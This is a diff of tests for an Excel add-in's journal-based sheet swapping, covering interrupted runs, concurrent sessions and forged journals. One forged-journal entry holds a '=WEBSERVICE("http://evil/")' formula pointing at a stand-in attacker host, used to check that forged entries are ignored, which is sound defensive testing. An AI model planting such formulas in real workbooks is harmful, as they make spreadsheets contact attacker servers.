@@ -1,5 +1,11 @@
 import { GENERATED_SHEETS, type GeneratedKind } from '../../src/core/registry';
-import { readUnfinished, readWorkbook, takeBackUnfinished, writeGenerated } from '../../src/excel';
+import {
+  finishUnfinished,
+  readUnfinished,
+  readWorkbook,
+  takeBackUnfinished,
+  writeGenerated,
+} from '../../src/excel';
 import { openWorkbook, saveWorkbook, type Workbook } from '../../src/host';
 import { bookOf, laidOut, namesOf, openExcel, reportOf, sheetOf } from './embedded';
 
@@ -146,6 +152,101 @@ it('a draft that a broken-off run left in this workbook is not read, and is take
   expect(namesOf(workbook)).toEqual(['贫困村名册']);
   await writeGenerated(outlines, source);
   expect(namesOf(workbook)).toEqual(['贫困村名册', '校验报告']);
+});
+
+it('a swap that was broken off while earlier versions were being cleared away is finished', async () => {
+  const workbook = bookOf(VILLAGES);
+  openExcel(workbook);
+  await write();
+  const host = openExcel(workbook);
+  const send = host.bridge.sendMessageToHost.bind(host.bridge);
+  let isGone = false;
+  host.bridge.sendMessageToHost = (text) => {
+    if (isGone) throw new Error('gone');
+    isGone = text.includes('decided');
+    send(isGone ? withoutItsEnd(text) : text);
+  };
+  await expect(write()).rejects.toMatchObject({ code: 'Interrupted' });
+  openExcel(workbook);
+  expect(namesOf(workbook)).toContain('_zhucun_old_1');
+  expect(await readUnfinished()).toMatchObject({ sheets: ['校验报告'], isDecided: true });
+  expect(await sheetsRead()).not.toContain('_zhucun_old_1');
+  await expect(takeBackUnfinished()).rejects.toThrow();
+  await finishUnfinished();
+  expect(namesOf(workbook)).toEqual(['贫困村名册', '校验报告']);
+  expect(await write()).toEqual(['校验报告']);
+  expect(namesOf(workbook)).toEqual(['贫困村名册', '校验报告']);
+});
+
+/** A request that Excel stops before the last things that go. */
+function withoutItsEnd(text: string): string {
+  const request = JSON.parse(text) as { message: { body: unknown } };
+  const { body } = request.message;
+  const batch = (typeof body === 'string' ? JSON.parse(body) : body) as { Actions: unknown[] };
+  batch.Actions.splice(-4, Infinity, {
+    Id: 0,
+    ActionType: 3,
+    Name: 'Fail',
+    ObjectPathId: 987_654_321,
+  });
+  request.message.body = typeof body === 'string' ? JSON.stringify(batch) : batch;
+  return JSON.stringify(request);
+}
+
+it('what another session has begun at the same moment is left to it', async () => {
+  const workbook = bookOf(VILLAGES);
+  const host = openExcel(workbook);
+  const { outlines, source } = report();
+  const send = host.bridge.sendMessageToHost.bind(host.bridge);
+  let isBegun = false;
+  host.bridge.sendMessageToHost = (text) => {
+    if (text.includes('_zhucun_new_1') && !isBegun) {
+      isBegun = true;
+      workbook
+        .addSheet('_zhucun_journal')
+        .cells.set(0, 0, '{"kind":"begin","operation":"fixes","at":"","by":"1"}');
+      workbook.addSheet('_zhucun_new_1').cells.set(0, 0, NOBODY_WROTE);
+    }
+    send(text);
+  };
+  await expect(writeGenerated(outlines, source)).rejects.toMatchObject({ code: 'Unfinished' });
+  expect(namesOf(workbook)).toEqual(['贫困村名册', '_zhucun_journal', '_zhucun_new_1']);
+  expect(await readUnfinished()).toMatchObject({ operation: 'fixes', isDecided: false });
+});
+
+it.each([
+  ['undone', []],
+  ['finished', [{ kind: 'decided' }]],
+] as const)('a forged journal that is %s sets no sheet aside that has not our name', async (_, decided) => {
+  const workbook = bookOf({ ...VILLAGES, ...NOTES });
+  openExcel(workbook);
+  const journal = workbook.addSheet('_zhucun_journal');
+  const forged = [
+    { kind: 'begin', operation: 'generated', at: '' },
+    { kind: 'shelved', sheet: '贫困村名册', name: '别的', visibility: 'Hidden' },
+    { kind: 'shelved', sheet: '_zhucun_old_1', name: '我的备注', visibility: 'Hidden' },
+    { kind: 'shelvedTable', table: 'villages', name: '别的' },
+    { kind: 'setting', key: 'another.setting', from: 'x' },
+    {
+      kind: 'sealed',
+      sheet: '贫困村名册',
+      mark: '=WEBSERVICE("http://evil/")',
+      isProtected: false,
+      footer: '',
+      pages: 'Default',
+    },
+    ...decided,
+  ];
+  forged.forEach((entry, row) => journal.cells.set(row, 0, JSON.stringify(entry)));
+  journal.visibility = 'VeryHidden';
+  const end = decided.length > 0 ? finishUnfinished : takeBackUnfinished;
+  await end();
+  expect(namesOf(workbook)).toEqual(['贫困村名册', '我的备注']);
+  expect(workbook.sheets.map(({ visibility, names }) => [visibility, names.size])).toEqual([
+    ['Visible', 0],
+    ['Visible', 0],
+  ]);
+  expect([...workbook.settings.keys()]).toEqual([]);
 });
 
 it('a name that a table of another sheet has is left to it', async () => {
